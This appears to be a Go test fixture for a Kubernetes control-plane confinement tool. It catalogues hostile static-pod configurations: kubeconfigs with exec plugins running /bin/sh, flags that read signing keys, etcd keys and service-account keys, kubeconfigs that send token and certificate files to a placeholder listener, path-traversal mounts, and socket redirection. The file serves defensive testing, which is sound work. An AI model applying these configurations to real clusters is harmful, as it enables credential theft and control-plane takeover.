package local

// attempt is a static pod that a hostile stack, or a hostile customer who has found a way to write files, brings to a
// machine. In its arguments, environment and mounts $FILE is a file of the plane, $DIR a folder of the plane, $SOCK a socket
// of the plane, $TCP a listener of the computer, $EVIL a folder of the machine with hostile files, and $UP the way from the
// working directory to the root of all files.
type attempt struct {
	program string
	args    []string
	env     map[string]string
	mounts  map[string]string // path in the container: path on the host
	subPath string            // of all mounts
}

// What kubeadm gives the two, for attempts that are about something else.
const (
	managerConfig   = "--kubeconfig=/etc/kubernetes/controller-manager.conf"
	schedulerConfig = "--kubeconfig=/etc/kubernetes/scheduler.conf"
)

// attempts by name. Each is run twice: with the allow-lists off, and with the confinement off.
var attempts = map[string]attempt{
	// Programs: a kubeconfig that runs one was the worst of all.
	"scheduler-exec":                {program: "kube-scheduler", args: []string{"--kubeconfig=$EVIL/exec.conf"}},
	"scheduler-exec-relative":       {program: "kube-scheduler", args: []string{"--kubeconfig=etc/kubernetes/evil/exec.conf"}},
	"scheduler-exec-two-words":      {program: "kube-scheduler", args: []string{"--kubeconfig", "$EVIL/exec.conf"}},
	"scheduler-exec-in-config":      {program: "kube-scheduler", args: []string{"--config=$EVIL/scheduler.yaml"}},
	"scheduler-exec-authentication": {program: "kube-scheduler", args: []string{schedulerConfig, "--authentication-kubeconfig=$EVIL/exec.conf"}},
	"scheduler-exec-authorization":  {program: "kube-scheduler", args: []string{schedulerConfig, "--authorization-kubeconfig=$EVIL/exec.conf"}},
	"manager-exec":                  {program: "kube-controller-manager", args: []string{"--kubeconfig=$EVIL/exec.conf"}},
	"manager-exec-authentication":   {program: "kube-controller-manager", args: []string{managerConfig, "--authentication-kubeconfig=$EVIL/exec.conf"}},
	"server-exec-authentication":    {program: "kube-apiserver", args: []string{"--authentication-token-webhook-config-file=$EVIL/exec.conf"}},
	"server-exec-authorization":     {program: "kube-apiserver", args: []string{"--authorization-mode=Webhook", "--authorization-webhook-config-file=$EVIL/exec.conf"}},
	"server-exec-audit":             {program: "kube-apiserver", args: []string{"--audit-webhook-config-file=$EVIL/exec.conf"}},
	"server-exec-admission": {
		program: "kube-apiserver", args: []string{"--enable-admission-plugins=ImagePolicyWebhook", "--admission-control-config-file=$EVIL/admission.yaml"},
	},
	"manager-flex-volumes": {program: "kube-controller-manager", args: []string{managerConfig, "--flex-volume-plugin-dir=$DIR"}},

	// Files of the plane that are read, and sent where the author listens.
	"scheduler-token-file":      {program: "kube-scheduler", args: []string{"--kubeconfig=$EVIL/token.conf"}},
	"scheduler-certificates":    {program: "kube-scheduler", args: []string{"--kubeconfig=$EVIL/certificates.conf"}},
	"scheduler-up":              {program: "kube-scheduler", args: []string{"--kubeconfig=$UP$FILE"}},
	"scheduler-absolute":        {program: "kube-scheduler", args: []string{"--kubeconfig=$FILE"}},
	"scheduler-config":          {program: "kube-scheduler", args: []string{"--config=$FILE"}},
	"scheduler-tls":             {program: "kube-scheduler", args: []string{schedulerConfig, "--tls-cert-file=$FILE", "--tls-private-key-file=$FILE"}},
	"scheduler-client-ca":       {program: "kube-scheduler", args: []string{schedulerConfig, "--client-ca-file=$FILE"}},
	"scheduler-symlink":         {program: "kube-scheduler", args: []string{schedulerConfig, "--client-ca-file=$EVIL/symlink"}},
	"scheduler-request-header":  {program: "kube-scheduler", args: []string{schedulerConfig, "--requestheader-client-ca-file=$FILE"}},
	"manager-token-file":        {program: "kube-controller-manager", args: []string{"--kubeconfig=$EVIL/token.conf"}},
	"manager-signing-key":       {program: "kube-controller-manager", args: []string{managerConfig, "--cluster-signing-cert-file=$FILE", "--cluster-signing-key-file=$FILE"}},
	"manager-root-ca":           {program: "kube-controller-manager", args: []string{managerConfig, "--root-ca-file=$FILE"}},
	"manager-account-key":       {program: "kube-controller-manager", args: []string{managerConfig, "--use-service-account-credentials", "--service-account-private-key-file=$FILE"}},
	"manager-recycler-template": {program: "kube-controller-manager", args: []string{managerConfig, "--pv-recycler-pod-template-filepath-hostpath=$FILE"}},
	"server-encryption":         {program: "kube-apiserver", args: []string{"--encryption-provider-config=$UP$FILE"}},
	"server-tokens":             {program: "kube-apiserver", args: []string{"--token-auth-file=$FILE"}},
	"server-audit-policy":       {program: "kube-apiserver", args: []string{"--audit-policy-file=$FILE", "--audit-log-path=-"}},
	"server-authentication":     {program: "kube-apiserver", args: []string{"--authentication-config=$FILE"}},
	"server-authorization":      {program: "kube-apiserver", args: []string{"--authorization-config=$FILE"}},
	"server-admission":          {program: "kube-apiserver", args: []string{"--admission-control-config-file=$FILE"}},
	"server-egress":             {program: "kube-apiserver", args: []string{"--egress-selector-config-file=$FILE"}},
	"server-sni":                {program: "kube-apiserver", args: []string{"--tls-sni-cert-key=$FILE,$FILE"}},
	"server-client-ca":          {program: "kube-apiserver", args: []string{"--client-ca-file=$FILE"}},
	"server-etcd-key":           {program: "kube-apiserver", args: []string{"--etcd-certfile=$FILE", "--etcd-keyfile=$FILE"}},
	"server-kubelet-key":        {program: "kube-apiserver", args: []string{"--kubelet-client-certificate=$FILE", "--kubelet-client-key=$FILE"}},
	"server-account-key":        {program: "kube-apiserver", args: []string{"--service-account-key-file=$FILE"}},
	"server-oidc-ca":            {program: "kube-apiserver", args: []string{"--oidc-issuer-url=https://issuer.example", "--oidc-client-id=x", "--oidc-ca-file=$FILE"}},
	"server-mount":              {program: "kube-apiserver", args: []string{"--client-ca-file=/host$FILE"}, mounts: map[string]string{"/host": "/"}},
	"server-mount-up":           {program: "kube-apiserver", args: []string{"--client-ca-file=/host$FILE"}, mounts: map[string]string{"/host": "/../../../../../../../../.."}},
	"server-mount-sub-path":     {program: "kube-apiserver", args: []string{"--client-ca-file=/host$FILE"}, mounts: map[string]string{"/host": "/etc"}, subPath: "$UP"},
	"etcd-config":               {program: "etcd", args: []string{"--config-file=$FILE"}},
	"etcd-ca":                   {program: "etcd", args: []string{"--data-dir=/var/lib/evil", "--trusted-ca-file=$FILE", "--cert-file=$FILE", "--key-file=$FILE"}},
	"etcd-tokens":               {program: "etcd", args: []string{"--data-dir=/var/lib/evil", "--auth-token=jwt,pub-key=$FILE,priv-key=$FILE,sign-method=RS256"}},
	"etcd-variable":             {program: "etcd", args: []string{"--data-dir=/var/lib/evil"}, env: map[string]string{"ETCD_CONFIG_FILE": "$FILE"}},

	// Files of the plane that are written.
	"scheduler-write-config": {program: "kube-scheduler", args: []string{schedulerConfig, "--write-config-to=$DIR/config"}},
	"scheduler-cert-dir":     {program: "kube-scheduler", args: []string{schedulerConfig, "--cert-dir=$DIR"}},
	"manager-cert-dir":       {program: "kube-controller-manager", args: []string{managerConfig, "--cert-dir=$DIR"}},
	"server-audit-log":       {program: "kube-apiserver", args: []string{"--audit-policy-file=$EVIL/policy.yaml", "--audit-log-path=$DIR/audit.log"}},
	"server-cert-dir":        {program: "kube-apiserver", args: []string{"--cert-dir=$DIR"}},
	"etcd-data":              {program: "etcd", args: []string{"--data-dir=$DIR/etcd"}},
	"etcd-data-one-dash":     {program: "etcd", args: []string{"-data-dir=$DIR/etcd"}},
	"etcd-data-two-words":    {program: "etcd", args: []string{"--data-dir", "$DIR/etcd"}},
	"etcd-data-up":           {program: "etcd", args: []string{"--data-dir=$UP$DIR/etcd"}},
	"etcd-data-variable":     {program: "etcd", env: map[string]string{"ETCD_DATA_DIR": "$DIR/etcd"}},
	"etcd-wal":               {program: "etcd", args: []string{"--data-dir=/var/lib/evil", "--wal-dir=$DIR/wal"}},
	"etcd-log":               {program: "etcd", args: []string{"--data-dir=/var/lib/evil", "--log-outputs=$DIR/log"}},
	"etcd-socket":            {program: "etcd", args: []string{"--data-dir=/var/lib/evil", "--listen-client-urls=unix://$DIR/sock", "--advertise-client-urls=http://127.0.0.1:1"}},

	// Sockets and listeners of the plane and of the computer.
	"server-etcd-socket":        {program: "kube-apiserver", args: []string{"--etcd-servers=unix://$SOCK"}},
	"server-etcd-socket-short":  {program: "kube-apiserver", args: []string{"--etcd-servers=unix:$SOCK"}},
	"server-etcd-override":      {program: "kube-apiserver", args: []string{"--etcd-servers-overrides=/secrets#unix://$SOCK"}},
	"server-etcd-computer":      {program: "kube-apiserver", args: []string{"--etcd-servers=http://localhost.:$PORT"}},
	"server-kms":                {program: "kube-apiserver", args: []string{"--encryption-provider-config=$EVIL/kms.yaml"}},
	"server-egress-socket":      {program: "kube-apiserver", args: []string{"--egress-selector-config-file=$EVIL/egress.yaml"}},
	"server-tracing":            {program: "kube-apiserver", args: []string{"--tracing-config-file=$EVIL/tracing.yaml"}},
	"server-audit-webhook":      {program: "kube-apiserver", args: []string{"--audit-policy-file=$EVIL/policy.yaml", "--audit-webhook-config-file=$EVIL/webhook.conf"}},
	"server-authorizer":         {program: "kube-apiserver", args: []string{"--authorization-mode=Webhook", "--authorization-webhook-config-file=$EVIL/webhook.conf"}},
	"scheduler-master":          {program: "kube-scheduler", args: []string{"--master=http://$TCP"}},
	"scheduler-kubeconfig-http": {program: "kube-scheduler", args: []string{"--kubeconfig=$EVIL/webhook.conf"}},
	"manager-master":            {program: "kube-controller-manager", args: []string{"--master=http://$TCP"}},
	"etcd-discovery":            {program: "etcd", args: []string{"--data-dir=/var/lib/evil", "--discovery-endpoints=http://$TCP", "--discovery-token=http://$TCP/x"}},
	"etcd-proxy-variable": {
		program: "etcd", args: []string{"--data-dir=/var/lib/evil", "--discovery-endpoints=http://discovery.example", "--discovery-token=x"},
		env: map[string]string{"HTTP_PROXY": "http://$TCP"},
	},

	// Programs that are none of the four.
	"shell":    {program: "/bin/sh", args: []string{"-c", "echo x >$DIR/shell"}},
	"host":     {program: "polder-local-host", args: []string{"$DIR"}},
	"plane":    {program: "polderd", args: []string{"serve", "--data-dir=$DIR"}},
	"renderer": {program: "polder-render", args: []string{"$FILE"}},
}

// hostileFiles are in $EVIL.
var hostileFiles = map[string]string{
	"exec.conf": `{apiVersion: v1, kind: Config, current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}],
clusters: [{name: c, cluster: {server: "https://$TCP", insecure-skip-tls-verify: true}}],
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, "echo x >$DIR/exec"], interactiveMode: Never}}}]}`,
	"token.conf": `{apiVersion: v1, kind: Config, current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}],
clusters: [{name: c, cluster: {server: "https://$TCP", insecure-skip-tls-verify: true}}], users: [{name: u, user: {tokenFile: $FILE}}]}`,
	"certificates.conf": `{apiVersion: v1, kind: Config, current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}],
clusters: [{name: c, cluster: {server: "https://$TCP", certificate-authority: $FILE}}], users: [{name: u, user: {client-certificate: $FILE, client-key: $FILE}}]}`,
	"webhook.conf": `{apiVersion: v1, kind: Config, current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}],
clusters: [{name: c, cluster: {server: "https://$TCP", insecure-skip-tls-verify: true}}], users: [{name: u, user: {token: x}}]}`,
	"scheduler.yaml": `{apiVersion: kubescheduler.config.k8s.io/v1, kind: KubeSchedulerConfiguration, clientConnection: {kubeconfig: $ROOT/etc/kubernetes/evil/exec.conf}}`,
	"admission.yaml": `{apiVersion: apiserver.config.k8s.io/v1, kind: AdmissionConfiguration, plugins: [{name: ImagePolicyWebhook,
configuration: {imagePolicy: {kubeConfigFile: $ROOT/etc/kubernetes/evil/exec.conf, allowTTL: 50, denyTTL: 50, retryBackoff: 500, defaultAllow: true}}}]}`,
	"kms.yaml": `{apiVersion: apiserver.config.k8s.io/v1, kind: EncryptionConfiguration, 
resources: [{resources: [secrets], providers: [{kms: {apiVersion: v2, name: x, endpoint: "unix://$SOCK"}}, {identity: {}}]}]}`,
	"egress.yaml": `{apiVersion: apiserver.k8s.io/v1beta1, kind: EgressSelectorConfiguration, egressSelections: [{name: etcd,
connection: {proxyProtocol: GRPC, transport: {uds: {udsName: $SOCK}}}}, {name: cluster, connection: {proxyProtocol: HTTPConnect, transport: {uds: {udsName: $SOCK}}}}]}`,
	"tracing.yaml": `{apiVersion: apiserver.config.k8s.io/v1, kind: TracingConfiguration, endpoint: $TCP, samplingRatePerMillion: 1000000}`,
	"policy.yaml":  `{apiVersion: audit.k8s.io/v1, kind: Policy, rules: [{level: Metadata}]}`,
}
